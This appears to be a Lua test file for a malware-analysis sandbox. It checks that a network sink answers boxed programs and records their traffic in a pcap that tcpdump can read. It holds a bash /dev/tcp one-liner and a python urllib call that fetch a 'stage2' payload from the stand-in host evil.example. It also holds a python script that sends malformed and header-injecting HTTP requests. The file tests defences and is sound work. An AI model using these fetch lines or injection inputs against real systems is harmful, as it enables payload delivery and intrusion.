-- SPDX-License-Identifier: MIT
-- The sink as a capture (--pcap, sbx.pcap) and its HTTP conversations
-- (sbx.sink.http): real boxes, the capture read by tcpdump, the reply
-- read by the boxed client.  scripts/test.sh runs this file as root and
-- as uid 65534.
local S = require "support"
local cjson = require "cjson"
local pcap = require "sbx.pcap"
local sink = require "sbx.sink"

local run = S.runlua
local EMPTY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
local HAVE_TCPDUMP = S.sh("command -v tcpdump >/dev/null 2>&1 && echo yes") == "yes\n"

local json_of = S.take_json

-- tcpdump's reading of a capture: its stdout and stderr together, status
local function tcpdump(path, flags)
	return S.sh("tcpdump -r " .. S.q(path) .. " " .. flags .. " 2>&1")
end

-- tcpdump reads the file whole, and finds no bad checksum (-v verifies
-- every IP, TCP and UDP checksum; -vv names each UDP one)
local function assert_clean(path)
	local out, code = tcpdump(path, "-nn -vv")
	assert.are.equal(0, code, out)
	assert.falsy(out:find("incorrect", 1, true), out)
	-- "bad cksum", "bad udp cksum": a word (a checksum such as 0x7bad is not)
	assert.falsy(out:find("%f[%w]bad "), out)
	assert.falsy(out:find("truncated", 1, true), out)
	return out
end

local function it_tcpdump(name, f)
	if HAVE_TCPDUMP then it(name, f) else pending("tcpdump is not installed (scripts/deps.sh): " .. name) end
end

-- a printf of an HTTP request over bash's /dev/tcp, the reply to stdout
local GET = "exec 3<>/dev/tcp/evil.example/80; "
	.. "printf 'GET /stage2 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n' >&3; cat <&3"
local REPLY = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 14\r\n"
	.. "Connection: close\r\n\r\n<html></html>\n"

-- hostile requests, one connection each: the first line of what came
-- back, or "-" when the sink did not answer
local HOSTILE = [[
import socket
reqs = [
    b'GET /long HTTP/1.1\r\nHost: long.example\r\nX-Long: ' + b'B' * 8000 + b'\r\n\r\n',
    b'GET /nul HTTP/1.1\r\nHost: nul.example\r\nX-V: a\0b\r\n\r\n',
    b'GET /many HTTP/1.1\r\nHost: many.example\r\n'
        + b''.join(b'X-%d: v\r\n' % i for i in range(10000)) + b'\r\n',
    b'GET /crlf HTTP/1.1\r\nHost: a.example\nX-Injected: b\r\n\r\n',
    b'GET /lf HTTP/1.1\nHost: lf.example\n\n',
    b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' + bytes(range(256)),
]
for i, r in enumerate(reqs):
    s = socket.create_connection(('192.0.2.%d' % (i + 1), 80))
    got = b''
    try:
        s.sendall(r)
        s.shutdown(socket.SHUT_WR)
        while True:
            b = s.recv(4096)
            if not b:
                break
            got += b
    except OSError:
        pass
    s.close()
    print(got.split(b'\r\n')[0].decode() or '-')
]]

describe("the sink as a capture, and its HTTP [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	it_tcpdump("a printf'd GET with --net sink: answered, in the behaviour, in the capture", function()
		local cap, json = os.tmpname(), os.tmpname()
		local out, err, code = run("--net", "sink", "--pcap", cap, "--json", json, "--behaviour",
			"/bin/bash", "-c", GET)
		assert.are.equal(0, code, err)
		assert.are.equal(REPLY, out)
		local t = json_of(json)
		assert.are.same({ { method = "GET", url = "http://evil.example/stage2", host = "evil.example", port = 80,
			headers = { Host = "evil.example" }, body_sha256 = EMPTY, body_size = 0, body = "" } },
			t.behaviour.http_conversations)
		assert.is_true(t.behaviour.has_pcap)
		assert.are.equal(cap, t.pcap)
		assert.are.equal(0, t.pcap_left_out)
		assert.truthy(err:find("\nhttp_conversations +GET http://evil.example/stage2\n"), err)
		-- the connect's SYN to the destination, then the request and the reply
		local dump = tcpdump(cap, "-nn -A")
		assert.truthy(dump:find("IP 10%.0%.0%.2%.%d+ > 10%.0%.0%.2%.80: Flags %[S%], seq %d+, win 65535, length 0"),
			dump)
		assert.truthy(dump:find("GET /stage2 HTTP/1.1\r?\nHost: evil.example"), dump)
		assert.truthy(dump:find("IP 10%.0%.0%.2%.80 > 10%.0%.0%.2%.%d+: Flags %[P%.%].-HTTP/1%.1 200 OK"), dump)
		assert.truthy(dump:find("A%? evil%.example%."), dump)
		assert_clean(cap)
		os.remove(cap)
	end)

	it_tcpdump("python's urllib under --explore: its next stage asked for, the kept directory's capture", function()
		local cap, json = os.tmpname(), os.tmpname()
		local keep, rm = S.tmpdir()
		os.remove(keep) -- run.lua makes it
		local out, err, code = run("--explore", "--pcap", cap, "--keep", keep, "--json", json, "/usr/bin/python3",
			"-c", "import urllib.request; print(urllib.request.urlopen('http://evil.example/stage2').read())")
		assert.are.equal(0, code, err)
		assert.are.equal("b'<html></html>\\n'\n", out)
		local t = json_of(json)
		local c = t.behaviour.http_conversations
		assert.are.equal(1, #c)
		assert.are.equal("http://evil.example/stage2", c[1].url)
		assert.are.equal("Python-urllib/3.11", c[1].headers["User-Agent"])
		assert.is_true(t.sink.http[1].replied)
		assert.are.equal(cap, t.pcap)
		assert.truthy(err:find("\nhttp_conversations +GET http://evil.example/stage2\n"), err)
		for _, f in ipairs { cap, keep .. "/sink.pcap" } do
			local dump = assert_clean(f)
			assert.truthy(dump:find("> 10%.0%.0%.2%.80: Flags %[S%]"), dump)
			assert.truthy(dump:find("User-Agent: Python-urllib", 1, true), dump)
		end
		assert.are.equal(S.read(cap), S.read(keep .. "/sink.pcap"))
		os.remove(cap)
		rm()
	end)

	it_tcpdump("hostile requests: long lines, NUL, 10000 headers, a bare LF, garbage", function()
		local cap, json = os.tmpname(), os.tmpname()
		local out, err, code = run("--net", "sink", "--pcap", cap, "--json", json, "--behaviour",
			"/usr/bin/python3", "-c", HOSTILE)
		assert.are.equal(0, code, err)
		-- answered: the whole requests only
		assert.are.equal("-\nHTTP/1.1 200 OK\n-\nHTTP/1.1 200 OK\n-\n-\n", out)
		local t = json_of(json)
		local c = t.sink.http
		assert.are.equal(4, #c, cjson.encode(c))
		assert.are.same({ "http://long.example/long", false, false },
			{ c[1].url, c[1].complete, c[1].replied })
		assert.are.equal("long.example", c[1].headers.Host)
		assert.are.same({ Host = "nul.example", ["X-V"] = "a\\x00b" }, c[2].headers)
		assert.is_true(c[2].replied)
		local n = 0
		for _ in pairs(c[3].headers) do n = n + 1 end
		assert.are.equal(sink.max_headers, n)
		assert.is_true(c[3].headers_left_out > 0)
		assert.is_false(c[3].complete)
		-- a bare LF is a byte of its line: no header of its own
		assert.are.same({ Host = "a.example\\nX-Injected: b" }, c[4].headers)
		assert.are.equal("a.example\\nX-Injected: b", c[4].host)
		assert.are.equal(4, #t.behaviour.http_conversations)
		assert.falsy(("\n" .. err):find("\nX%-Injected"), err)
		assert.truthy(err:find("\n%s+GET http://a%.example\\nX%-Injected: b/crlf\n"), err)
		assert.are.equal(6, #t.sink.traffic)
		assert_clean(cap)
		os.remove(cap)
	end)

	it("--pcap only with --net sink; no capture, no has_pcap", function()
		local cap = os.tmpname()
		local _, err, code = run("--pcap", cap, "true")
		assert.are.equal(126, code)
		assert.are.equal("sbxlua: --pcap: only with --net sink\n", err)
		local _, err2, code2, res = S.json_run("--net", "sink", "true")
		assert.are.equal(0, code2, err2)
		assert.is_false(res.behaviour.has_pcap)
		assert.is_nil(res.pcap)
		assert.are.same({}, res.behaviour.http_conversations)
		os.remove(cap)
	end)

	it_tcpdump("sbx.pcap: a cap leaves whole packets out and counts them; bad arguments raise", function()
		local events = { { kind = "traffic", protocol = "tcp", source = "10.0.0.2", source_port = 40000,
			address = "192.0.2.1", port = 4444, data = ("x"):rep(5000), bytes = 5000 },
			{ kind = "traffic", protocol = "udp", source = "10.0.0.2", source_port = 40001,
				address = "8.8.8.8", port = 53, data = "ping", bytes = 4 },
			{ kind = "dns", name = "a.example", type = "A", answer = "NXDOMAIN", source = "127.0.0.1",
				source_port = 40002, address = "127.0.0.53" } }
		local whole, none = pcap.file(events, { time = 1800000000 })
		assert.are.equal(0, none)
		local part, left = pcap.file(events, { time = 1800000000, cap = 2000 })
		assert.is_true(left > 0)
		assert.is_true(#part <= 2000)
		assert.are.equal(whole:sub(1, #part), part)
		local f = os.tmpname()
		for _, bytes in ipairs { whole, part } do
			local h = assert(io.open(f, "wb"))
			h:write(bytes)
			h:close()
			local dump = assert_clean(f)
			assert.truthy(dump:find("10.0.0.2.40000 > 192.0.2.1.4444: Flags [S]", 1, true), dump)
		end
		os.remove(f)
		assert.has_error(function() pcap.file(1) end, "bad argument #1 to 'file' (table expected, got number)")
		assert.has_error(function() pcap.file({}, { size = 1 }) end, "bad argument #2 to 'file' (unknown key 'size')")
		assert.has_error(function() sink.http("x") end, "bad argument #1 to 'http' (table expected)")
		assert.is_nil(sink.http { kind = "traffic", protocol = "udp", data = "GET / HTTP/1.1\r\n\r\n" })
	end)
end)
